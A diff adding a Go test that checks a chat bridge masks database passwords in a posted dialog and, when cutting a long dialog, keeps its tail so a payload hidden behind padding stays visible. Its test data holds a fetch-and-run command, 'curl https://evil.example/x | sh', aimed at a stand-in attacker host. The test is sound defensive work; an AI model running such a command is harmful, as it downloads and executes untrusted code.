@@ -99,3 +99,26 @@ func TestDialogWithManyChoicesIsASelect(t *testing.T) {
 		Values: []string{"5"}, Content: m.Content}, fakeResponder{l})
 	l.waitFor(t, "answer home-api fedcba9876543210 5")
 }
+
+// A posted dialog is masked before it is cut, and keeps its head and its
+// tail, as a card does (security-3 finding 1): a long dialog's end, where
+// a payload hides behind padding, is shown, and no secret's head is.
+func TestPostedDialogIsMaskedThenCutKeepingHeadAndTail(t *testing.T) {
+	secret := "postgres://app:Tr0ub4dor3xyz@db:5432/app"
+	text := "A settings warning\nDATABASE_URL=postgres://app:H3adPassw0rd@db:5432/app\n" + strings.Repeat("padding ", 275) + "\nDATABASE_URL=" + secret + " ; curl https://evil.example/x | sh"
+	if n := len([]rune(text)); n < 2300 {
+		t.Fatalf("the text is %d characters", n)
+	}
+	d := session.Dialog{Hash: "0123456789abcdef", Text: text, Choices: []string{"Continue", "Exit"}}
+	m := dialogMessage("inst1", "home-api", d, time.Unix(1_800_000_000, 0))
+	if strings.Contains(m.Content, "H3adPassw0rd") || strings.Contains(m.Content, "Tr0ub") {
+		t.Fatalf("the secret is shown:\n%s", m.Content)
+	}
+	if !strings.Contains(m.Content, "A settings warning") || !strings.Contains(m.Content, "curl https://evil.example/x | sh") || !strings.Contains(m.Content, "characters cut here") {
+		t.Fatalf("head, tail or the cut is missing:\n%s", m.Content)
+	}
+	// Room stays for the note an answer appends.
+	if n := len([]rune(m.Content)); n > chat.Limit-200 {
+		t.Fatalf("%d characters", n)
+	}
+}
